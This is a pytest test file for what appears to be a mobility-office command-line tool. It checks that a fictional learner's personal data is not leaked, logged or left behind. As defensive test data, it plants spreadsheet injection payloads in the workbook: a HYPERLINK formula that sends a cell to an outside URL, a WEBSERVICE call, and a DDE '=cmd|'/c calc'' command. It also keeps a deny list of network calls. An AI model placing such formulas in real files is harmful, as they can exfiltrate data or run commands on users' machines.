"""A year with one learner whose words stand nowhere else: what is printed, called and left behind.

The commands are run as a coordinator runs them, with every way out of the computer forbidden.
"""

from __future__ import annotations

import base64
import csv
import html
import json
import logging
import re
import sys
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from io import BytesIO, StringIO
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.workbook import Workbook

from ecvet_office.cli import ecvet
from ecvet_office.workbook.building import write_new
from ecvet_office.workbook.parsing import parse
from ecvet_office.workbook.reading import read
from exchange.foreign_files import participants

GIVEN, FAMILY = "Zzyrbella Ümi", "Qwyxaö & O'Nnz"
NAME = f"{GIVEN} {FAMILY}"
WORDS = (GIVEN, FAMILY, "zz.qwyx@zq.example", "+999 77 1234567", "Zwickelgasse", "Guardzz Xyloq", "23 November 2006")
RUNS = '=HYPERLINK("https://school.example/?a="&B2)'  # what somebody may type into a name
RETENTION_YEARS = 7
DAY, LATER, MEETING = "2026-04-20", "2026-12-01", "2026-06-12"
WAYS_OUT = ("socket.connect", "socket.getaddrinfo", "socket.gethostby", "socket.sendto", "urllib.", "http.client",
            "smtplib.", "ftplib.", "webbrowser.", "os.startfile")  # fmt: skip


@dataclass
class Year:
    """A folder with all that was written, and what was printed and reached for on the way."""

    folder: Path
    printed: dict[str, str] = field(default_factory=dict)
    codes: dict[str, int] = field(default_factory=dict)
    reached: list[str] = field(default_factory=list)

    def run(self, *arguments: object) -> str:
        line = [str(one) for one in arguments]
        done = CliRunner().invoke(ecvet, line)
        assert done.exception is None or isinstance(done.exception, SystemExit), (line, done.exception)
        told = " ".join(line).replace(f"{self.folder}/", "")
        self.printed[told], self.codes[told] = done.output, done.exit_code
        return done.output


def column(book: Workbook, sheet: str, header: str) -> int:
    return [str(cell.value).rstrip(" *") for cell in book[sheet][1]].index(header) + 1


def private_plan(folder: Path) -> Path:
    """Writes the example with the learner in place of L1, in a group with two others, and texts that would run."""
    path = folder / "plan.xlsx"
    write_new("mobility", path, example=True)
    book = openpyxl.load_workbook(path)
    for cell in (one for sheet in book for row in sheet.iter_rows() for one in row):
        if isinstance(cell.value, str) and not cell.value.startswith("="):
            cell.value = cell.value.replace("Aino Virtanen", NAME)
    told: dict[str, str | datetime] = {
        "Family name": FAMILY,
        "Given names": GIVEN,
        "Date of birth": datetime(2006, 11, 23),  # noqa: DTZ001 # a day in Excel has no zone
        "Address": "Zwickelgasse 99",
        "E-mail": WORDS[2],
        "Telephone": WORDS[3],
        "Guardian 1 name": "Guardzz Xyloq",
    }
    for header, value in told.items():
        book["Learners"].cell(2, column(book, "Learners", header)).value = value
    runs = book["Learners"].cell(3, column(book, "Learners", "Family name"))
    runs.value = RUNS
    runs.data_type = "s"
    years = next(row for row in book["Settings"].iter_rows(max_col=2) if row[0].value == "Retention in years")
    years[1].value = RETENTION_YEARS
    book["Mobility groups"]["A2"], book["Mobility groups"]["B2"] = "G1", "Class 3b in Lyon"
    accompanying = book["Accompanying persons"]
    accompanying["A2"], accompanying["B2"], accompanying["E2"] = "G1", "H1 · Maija Heino", "yes"
    for row in (2, 3, 4):
        book["Agreements"].cell(row, column(book, "Agreements", "Group")).value = "G1"
    notes = book.create_sheet("Notes")
    notes["A1"], notes["A2"] = '=WEBSERVICE("https://school.example/")', "=cmd|'/c calc'!A0"
    book.save(path)
    return path


def play(year: Year) -> None:
    """Runs the commands of a year."""
    home = year.folder
    plan, documents, recorded = private_plan(home), home / "documents", home / "recorded.xlsx"
    (home / "sent").mkdir()
    (home / "class.csv").write_text(
        f"Family name;First name;Date of birth\n{FAMILY};{GIVEN};23.11.2006\nNeuzz;Otto;1.2.2007\n", encoding="cp1252"
    )
    lists = ("--format", "csv", "--names", "-o")
    lines: list[Sequence[object]] = [
        ("check", plan, "--on", DAY),
        ("credit", plan, "--on", DAY),
        ("credit", plan, "--on", DAY, *lists, home / "credit.csv"),
        ("board", plan, "--on", DAY, *lists, home / "board.csv"),
        ("checklist", plan, "--on", DAY),
        ("update", plan, "-o", home / "updated.xlsx", "--on", DAY, "--marks"),
        ("fill", "all", plan, "-o", documents, "--on", DAY, "--draft", "--record", "--record-to", recorded),
        ("fill", "transcript", plan, "-o", home / "many", "--on", DAY, "--draft", "--jobs", "1"),
        ("fill", "learning-agreement", plan, "-o", home / "sent", "--on", DAY, "--to-return", "--draft", "--code"),
        ("verify", home / "sent" / "learning-agreement_A1_L1.docx"),
        ("grid", plan, "--host", "I2", "-o", home / "grids", "--on", DAY),
        ("read", home / "sent", plan, "--apply", "-o", home / "read.xlsx", "--on", DAY, "--file-in", home / "filed"),
        ("papers", recorded, "--folders", home / "post", "--documents", documents, "--on", LATER),
        ("papers", recorded, "--on", LATER, *lists, home / "owed.csv"),
        ("meeting", plan, "--on", MEETING, "-o", home / "meeting", "--draft"),
        ("meeting", plan, "--on", "2025-04-22", "-o", home / "meeting", "--draft"),
        ("meeting", plan, "--on", MEETING, *lists, home / "meeting.csv"),
        ("decide", plan, "--step", "validated", "--by", "H1", "--on", MEETING, "--all-ready", "--show"),
        ("audit", plan, "--learner", "L1", "--papers", documents, "-o", home / "audit", "--on", DAY),
        ("next-year", plan, "-o", home / "next.xlsx", "--learner", "L1", "--on", DAY),
        ("extract", plan, "--partner", "I2", "-o", home / "lyon.xlsx"),
        ("personal-data", plan, "L1", "-o", home / "L1.xlsx", "--papers", documents),
        ("personal-data", plan, "L1", "-o", home / "L1.json"),
        ("anonymise", plan, "-o", home / "support.xlsx", "--on", DAY),
        ("export", plan, participants(home), "-o", home / "exported.xlsx", "--on", DAY),
        ("enrol", plan, home / "class.csv", "--package", "K1", "--start", "2026-09-01", "--end", "2026-09-20",
         "-o", home / "enrolled.xlsx"),
        ("forget", plan, "L1", "-o", home / "without.xlsx", "--papers", home),
        ("forget", plan, "L77", "-o", home / "nobody.xlsx"),
        ("audit", plan, "--learner", "L77", "-o", home / "nobody"),
        ("fill", "europass-mobility", plan, "-o", documents, "--on", DAY, "--draft"),
        ("extract", plan, "--partner", "I1", "-o", home / "nothing.xlsx"),
    ]  # fmt: skip
    for line in lines:
        year.run(*line)


@pytest.fixture(scope="module")
def year(tmp_path_factory: pytest.TempPathFactory) -> Year:
    """The year, played once."""
    played = Year(tmp_path_factory.mktemp("year"))
    is_on = [True]

    def forbid(event: str, _arguments: object) -> None:
        if is_on[0] and event.startswith(WAYS_OUT):
            played.reached.append(event)
            raise PermissionError(event)

    sys.addaudithook(forbid)  # which cannot be taken away again, so it is switched off
    logged: list[str] = []
    listener = logging.Handler()
    listener.emit = lambda record: logged.append(record.getMessage())  # type: ignore[method-assign]
    logging.getLogger().addHandler(listener)
    try:
        play(played)
    finally:
        is_on[0] = False
        logging.getLogger().removeHandler(listener)
    played.printed["what was logged"] = "\n".join(logged)
    return played


# --- looking for the learner's words, by other means than the program's -----------------------------------------------


def spellings(word: str) -> set[bytes]:
    """Gives a word as files may spell it: escaped for XML, JSON or HTML, in UTF-8, UTF-16 or the PC's code page."""
    escaped = {word, html.escape(word), html.escape(word, quote=False), json.dumps(word)[1:-1]}
    escaped |= {one.encode("ascii", "xmlcharrefreplace").decode() for one in tuple(escaped)}
    return {one.encode(encoding) for one in escaped for encoding in ("utf-8", "utf-16-le", "utf-16-be", "cp1252")}


SPELT = {word: spellings(word) for word in WORDS}


def contents(name: str, data: bytes) -> Iterator[bytes]:
    """Gives what lies in a file: itself, each part of a package, and what letters carry in base 64; tags left out."""
    if data[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(BytesIO(data)) as archive:
            for part in archive.namelist():
                yield from contents(part, archive.read(part))
        return
    yield data
    yield re.sub(rb"<[^>]+>", b"", data)
    if name.endswith(".eml"):
        for block in re.findall(rb"(?:[A-Za-z0-9+/=]{60,}\r?\n)+[A-Za-z0-9+/=]*", data):
            yield from contents("attached", base64.b64decode(block))


def words_in(path: Path) -> set[str]:
    found = list(contents(path.name, path.read_bytes()))
    return {word for word, spelt in SPELT.items() if any(one in part for one in spelt for part in found)}


def files(folder: Path) -> list[Path]:
    return sorted(one for one in folder.rglob("*") if one.is_file())


# --- what is asked of the year ----------------------------------------------------------------------------------------


def test_every_command_of_the_year_ran(year: Year) -> None:
    refused = {line for line, code in year.codes.items() if code == 2}
    asked_for_nobody = {line for line in year.codes if "L77" in line or "--partner I1" in line}
    assert refused == asked_for_nobody | {f"fill europass-mobility plan.xlsx -o documents --on {DAY} --draft"}
    assert len(files(year.folder)) > 60  # documents, letters, lists and workbooks


def test_nothing_reaches_out_of_the_computer_whatever_stands_in_the_workbook(year: Year) -> None:
    assert year.reached == []


def test_no_word_of_the_learner_is_printed_or_logged(year: Year) -> None:
    assert [line for line, text in year.printed.items() if any(word in text for word in WORDS)] == []


def test_no_file_is_named_for_the_learner_and_none_is_left_half_made(year: Year) -> None:
    names = [one.name for one in year.folder.rglob("*")]
    assert [name for name in names if any(part in name for part in ("Zzyr", "Qwyx", "zz.qwyx"))] == []
    assert [name for name in names if name.endswith((".tmp", ".part")) or name.startswith("~$")] == []


def test_no_cell_of_a_list_runs_when_excel_opens_it(year: Year) -> None:
    lists = [path for path in files(year.folder) if path.suffix == ".csv" and path.name != "class.csv"]
    assert {path.name for path in lists} == {"board.csv", "credit.csv", "manifest.csv", "meeting.csv", "owed.csv"}
    texts = [path.read_text(encoding="utf-8-sig") for path in lists]
    cells = [cell for text in texts for row in csv.reader(StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))] == []
    assert any(f"'{RUNS}" in cell or RUNS in cell for cell in cells)


def test_each_file_that_holds_a_word_of_the_learner_is_told_when_the_learner_is_forgotten(year: Year) -> None:
    told = next(text for line, text in year.printed.items() if line.startswith("forget plan.xlsx L1"))
    holding = [path for path in files(year.folder) if words_in(path)]
    untold = [path.relative_to(year.folder).as_posix() for path in holding
              if f"{path} (" not in told and f"stands in {path.name} as before" not in told]  # fmt: skip
    assert len(holding) > 40  # or nothing was looked for
    assert untold == []


def test_what_tells_of_the_learner_among_others_is_told_with_what_to_do(year: Year) -> None:
    told = next(text for line, text in year.printed.items() if line.startswith("forget plan.xlsx L1"))
    for name, advice in (
        ("group-programme_G1_DRAFT.docx", "about several people, holds the full name: make it anew"),
        ("meeting-minutes_2025-04-22.docx", "about several people, holds the full name: make it anew"),
        ("host-grid_I2.xlsx", "make it anew without the learner"),
        ("cover.eml", "a letter by e-mail: delete it, or make it anew"),
        ("class.csv", "make it anew without the learner, or delete it"),
    ):
        assert re.search(rf"{re.escape(name)} \(.*{re.escape(advice)}", told), name


def test_neither_the_workbook_without_the_learner_nor_the_copy_for_support_holds_a_word_of_the_learner(
    year: Year,
) -> None:
    assert words_in(year.folder / "without.xlsx") == set()
    assert words_in(year.folder / "support.xlsx") == set()


def test_a_partners_extract_holds_name_and_birth_alone(year: Year) -> None:
    assert words_in(year.folder / "lyon.xlsx") == {GIVEN, FAMILY}  # a date of birth stands as a number
    learners = openpyxl.load_workbook(year.folder / "lyon.xlsx")["Learners"]
    filled = {str(learners.cell(1, cell.column).value) for cell in learners[2] if cell.value and cell.data_type != "f"}
    assert filled == {"Id", "Family name *", "Given names *", "Date of birth *", "Qualification *"}


def test_the_next_year_keeps_how_long_papers_are_kept(year: Year) -> None:
    for name in ("plan.xlsx", "next.xlsx", "without.xlsx", "support.xlsx"):
        register, _ = parse(read(year.folder / name))
        assert register.settings.retention_years == RETENTION_YEARS, name
